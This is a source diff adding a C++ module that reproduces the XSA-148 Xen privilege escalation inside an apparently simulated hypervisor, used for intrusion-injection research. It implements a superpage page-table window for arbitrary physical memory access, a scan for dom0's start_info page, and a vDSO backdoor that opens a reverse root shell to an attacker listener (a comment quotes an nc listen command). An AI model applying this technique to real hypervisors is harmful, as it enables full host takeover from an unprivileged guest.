@@ -1,0 +1,295 @@
+// XSA-148 privilege escalation ("from guest to host", Quarkslab part 2):
+// the missing PSE check in L2 validation lets the guest install a 2 MiB
+// superpage entry covering its own page-table frames. Rewriting its own L1
+// entries through that window (plain stores, no hypercalls) gives a
+// remappable view of *any* machine frame. The PoC scans physical memory for
+// dom0's fingerprintable start_info page, locates the vDSO, and patches in
+// a backdoor that opens a reverse root shell to the attacker's listener.
+#include <cstring>
+
+#include "core/injector.hpp"
+#include "core/monitor.hpp"
+#include "xsa/detail.hpp"
+#include "xsa/usecases.hpp"
+
+namespace ii::xsa {
+
+namespace {
+
+constexpr std::uint64_t kTwoMb = sim::kPageSize * sim::kPtEntries;
+
+/// What the scan extracts from a candidate start_info page.
+struct StartInfoHit {
+  sim::Mfn mfn{};
+  std::uint16_t domid = 0;
+};
+
+bool parse_start_info(std::span<const std::uint8_t> bytes,
+                      std::uint16_t* domid) {
+  const char* magic = guest::StartInfoLayout::kMagic;
+  if (bytes.size() < 0x30) return false;
+  if (std::memcmp(bytes.data() + guest::StartInfoLayout::kMagicOffset, magic,
+                  std::strlen(magic) + 1) != 0) {
+    return false;
+  }
+  std::memcpy(domid, bytes.data() + guest::StartInfoLayout::kDomIdOffset,
+              sizeof *domid);
+  return true;
+}
+
+bool looks_like_vdso(std::span<const std::uint8_t> bytes) {
+  if (bytes.size() < 0x30) return false;
+  if (std::memcmp(bytes.data(), guest::VdsoLayout::kElfMagic, 4) != 0) {
+    return false;
+  }
+  const char* sig = guest::VdsoLayout::kSignature;
+  return std::memcmp(bytes.data() + guest::VdsoLayout::kSignatureOffset, sig,
+                     std::strlen(sig)) == 0;
+}
+
+guest::VdsoBackdoor make_backdoor(const std::string& attacker_host) {
+  guest::VdsoBackdoor bd{};
+  bd.magic = guest::VdsoLayout::kBackdoorMagic;
+  std::snprintf(bd.host, sizeof bd.host, "%s", attacker_host.c_str());
+  bd.port = Xsa148Priv::kShellPort;
+  return bd;
+}
+
+/// Shared pre-attack stage setting: the victim's secret and the attacker's
+/// listener (the `nc -l -vvv -p 1234` step).
+void stage_environment(guest::VirtualPlatform& p) {
+  p.dom0().fs().write("/root/root_msg", /*uid=*/0,
+                      "Confidential content in root folder!");
+  p.attacker().listen(Xsa148Priv::kShellPort);
+}
+
+/// The exploit's arbitrary-physical-memory view: a writable superpage
+/// window over the guest's own L1 table, used to retarget a scratch PTE at
+/// any machine frame.
+class SuperpageWindow {
+ public:
+  SuperpageWindow(guest::GuestKernel& guest, core::CaseOutcome& out)
+      : guest_{&guest}, out_{&out} {}
+
+  /// Install the PSE entry. Returns the hypercall rc.
+  long install() {
+    const std::uint64_t window_slot = guest_->l1_table_count();
+    window_base_ =
+        sim::Mfn{guest_->l1_mfn(0).raw() & ~(sim::kPtEntries - 1)};
+    window_va_ = sim::Vaddr{hv::kGuestKernelBase + window_slot * kTwoMb};
+
+    const sim::Paddr l2_slot =
+        sim::mfn_to_paddr(guest_->l2_mfn()) + window_slot * 8;
+    const sim::Pte pse_entry = sim::Pte::make(
+        window_base_, sim::Pte::kPresent | sim::Pte::kWritable |
+                          sim::Pte::kUser | sim::Pte::kPageSize);
+    const long rc = guest_->mmu_update_one(l2_slot, pse_entry.raw());
+    if (rc != hv::kOk) return rc;
+
+    scratch_pfn_ = *guest_->alloc_pfn();
+    detail::note(*out_, *guest_,
+                 "aligned_mfn_va = " + detail::hex(window_va_.raw()));
+    detail::note(*out_, *guest_,
+                 "aligned_mfn_va mfn = " + detail::hex(window_base_.raw()));
+    detail::note(*out_, *guest_,
+                 "l2_entry_va = " + detail::hex(l2_slot.raw()));
+    return hv::kOk;
+  }
+
+  /// Point the scratch PTE at `target` by writing the L1 slot *through the
+  /// superpage window* — a plain guest store, no hypercall, no validation.
+  bool remap_scratch(sim::Mfn target) {
+    const std::uint64_t l1_offset =
+        (guest_->l1_mfn(scratch_pfn_.raw() / sim::kPtEntries).raw() -
+         window_base_.raw()) *
+        sim::kPageSize;
+    const sim::Vaddr slot_va{window_va_.raw() + l1_offset +
+                             (scratch_pfn_.raw() % sim::kPtEntries) * 8};
+    const sim::Pte pte = sim::Pte::make(
+        target,
+        sim::Pte::kPresent | sim::Pte::kWritable | sim::Pte::kUser);
+    return guest_->write_u64(slot_va, pte.raw());
+  }
+
+  bool read_frame(sim::Mfn target, std::span<std::uint8_t> out) {
+    return remap_scratch(target) &&
+           guest_->read_virt(guest_->pfn_va(scratch_pfn_), out);
+  }
+
+  bool write_frame(sim::Mfn target, std::uint64_t offset,
+                   std::span<const std::uint8_t> in) {
+    return remap_scratch(target) &&
+           guest_->write_virt(guest_->pfn_va(scratch_pfn_, offset), in);
+  }
+
+ private:
+  guest::GuestKernel* guest_;
+  core::CaseOutcome* out_;
+  sim::Mfn window_base_{};
+  sim::Vaddr window_va_{};
+  sim::Pfn scratch_pfn_{};
+};
+
+/// Generic fingerprint scan over all machine frames through any
+/// "read 0x60 bytes of frame N" primitive.
+template <typename ReadFrame>
+std::optional<StartInfoHit> scan_for_dom0(std::uint64_t frame_count,
+                                          ReadFrame&& read_frame) {
+  std::array<std::uint8_t, 0x60> head{};
+  for (std::uint64_t f = 0; f < frame_count; ++f) {
+    if (!read_frame(sim::Mfn{f}, std::span<std::uint8_t>{head})) continue;
+    std::uint16_t domid = 0xFFFF;
+    if (parse_start_info(head, &domid) && domid == hv::kDom0) {
+      return StartInfoHit{sim::Mfn{f}, domid};
+    }
+  }
+  return std::nullopt;
+}
+
+}  // namespace
+
+core::IntrusionModel Xsa148Priv::model() const {
+  return core::IntrusionModel{
+      .source = core::TriggeringSource::UnprivilegedGuest,
+      .component = core::TargetComponent::MemoryManagement,
+      .interface = core::InteractionInterface::Hypercall,
+      .functionality =
+          core::AbusiveFunctionality::GuestWritablePageTableEntry,
+      .erroneous_state =
+          "writable superpage over own page tables; dom0 vDSO backdoored",
+  };
+}
+
+core::CaseOutcome Xsa148Priv::run_exploit(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  stage_environment(p);
+  detail::note(out, guest,
+               "xen_exploit: xen version = " + p.hv().version().to_string());
+
+  SuperpageWindow window{guest, out};
+  out.rc = window.install();
+  if (out.rc != hv::kOk) {
+    detail::note(out, guest,
+                 std::string{"mmu_update(PSE) rejected: "} +
+                     hv::errno_name(out.rc) + " (vulnerability fixed)");
+    return out;
+  }
+  detail::note(out, guest, "startup_dump ok");
+
+  const auto hit = scan_for_dom0(
+      p.memory().frame_count(), [&](sim::Mfn f, std::span<std::uint8_t> b) {
+        return window.read_frame(f, b);
+      });
+  if (!hit) {
+    detail::note(out, guest, "dom0 start_info not found");
+    return out;
+  }
+  detail::note(out, guest,
+               "start_info page: " + detail::hex(hit->mfn.raw()));
+  detail::note(out, guest, "dom0!");
+
+  // The domain builder places the vDSO right after start_info.
+  const sim::Mfn vdso{hit->mfn.raw() + 1};
+  std::array<std::uint8_t, 0x60> head{};
+  if (!window.read_frame(vdso, head) || !looks_like_vdso(head)) {
+    detail::note(out, guest, "dom0 vdso not found");
+    return out;
+  }
+  detail::note(out, guest, "dom0 vdso : " + detail::hex(vdso.raw()));
+
+  const guest::VdsoBackdoor bd = make_backdoor(p.config().attacker_host);
+  if (!window.write_frame(vdso, guest::VdsoLayout::kBackdoorOffset,
+                          {reinterpret_cast<const std::uint8_t*>(&bd),
+                           sizeof bd})) {
+    detail::note(out, guest, "vdso patch failed");
+    return out;
+  }
+  detail::note(out, guest, "vdso backdoor installed");
+
+  // A dom0 process enters the vDSO (normal system activity); the implant
+  // phones home.
+  p.dom0().invoke_vdso(/*uid=*/0);
+  out.completed = true;
+  return out;
+}
+
+core::CaseOutcome Xsa148Priv::run_injection(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  stage_environment(p);
+  detail::note(out, guest,
+               "injection: scanning physical memory via arbitrary_access");
+
+  core::ArbitraryAccessInjector injector{guest};
+  const auto hit = scan_for_dom0(
+      p.memory().frame_count(), [&](sim::Mfn f, std::span<std::uint8_t> b) {
+        return injector.read(sim::mfn_to_paddr(f).raw(), b,
+                             core::AddressMode::Physical);
+      });
+  out.rc = injector.last_rc();
+  if (!hit) {
+    detail::note(out, guest, "dom0 start_info not found");
+    return out;
+  }
+  detail::note(out, guest,
+               "start_info page: " + detail::hex(hit->mfn.raw()));
+  detail::note(out, guest, "dom0!");
+
+  const sim::Mfn vdso{hit->mfn.raw() + 1};
+  std::array<std::uint8_t, 0x60> head{};
+  if (!injector.read(sim::mfn_to_paddr(vdso).raw(), head,
+                     core::AddressMode::Physical) ||
+      !looks_like_vdso(head)) {
+    detail::note(out, guest, "dom0 vdso not found");
+    return out;
+  }
+  detail::note(out, guest, "dom0 vdso : " + detail::hex(vdso.raw()));
+
+  const guest::VdsoBackdoor bd = make_backdoor(p.config().attacker_host);
+  if (!injector.write(
+          sim::mfn_to_paddr(vdso).raw() + guest::VdsoLayout::kBackdoorOffset,
+          {reinterpret_cast<const std::uint8_t*>(&bd), sizeof bd},
+          core::AddressMode::Physical)) {
+    out.rc = injector.last_rc();
+    detail::note(out, guest, "vdso patch failed");
+    return out;
+  }
+  detail::note(out, guest, "vdso backdoor installed");
+
+  p.dom0().invoke_vdso(/*uid=*/0);
+  out.completed = true;
+  return out;
+}
+
+bool Xsa148Priv::erroneous_state_present(guest::VirtualPlatform& p) const {
+  // Audit dom0's vDSO page for the implant.
+  const auto vdso_mfn = p.dom0().pfn_to_mfn(guest::kVdsoPfn);
+  if (!vdso_mfn) return false;
+  guest::VdsoBackdoor bd{};
+  p.hv().memory().read(
+      sim::mfn_to_paddr(*vdso_mfn) + guest::VdsoLayout::kBackdoorOffset,
+      {reinterpret_cast<std::uint8_t*>(&bd), sizeof bd});
+  return bd.magic == guest::VdsoLayout::kBackdoorMagic;
+}
+
+bool Xsa148Priv::security_violation(guest::VirtualPlatform& p) const {
+  core::SystemMonitor monitor{p};
+  return monitor.attacker_root_shell(kShellPort);
+}
+
+std::string Xsa148Priv::erroneous_state_description(
+    guest::VirtualPlatform& p) const {
+  const auto vdso_mfn = p.dom0().pfn_to_mfn(guest::kVdsoPfn);
+  if (!vdso_mfn) return {};
+  guest::VdsoBackdoor bd{};
+  p.hv().memory().read(
+      sim::mfn_to_paddr(*vdso_mfn) + guest::VdsoLayout::kBackdoorOffset,
+      {reinterpret_cast<std::uint8_t*>(&bd), sizeof bd});
+  if (bd.magic != guest::VdsoLayout::kBackdoorMagic) return {};
+  bd.host[sizeof bd.host - 1] = 0;
+  return std::string{"dom0 vDSO backdoored: reverse shell to "} + bd.host +
+         ":" + std::to_string(bd.port);
+}
+
+}  // namespace ii::xsa
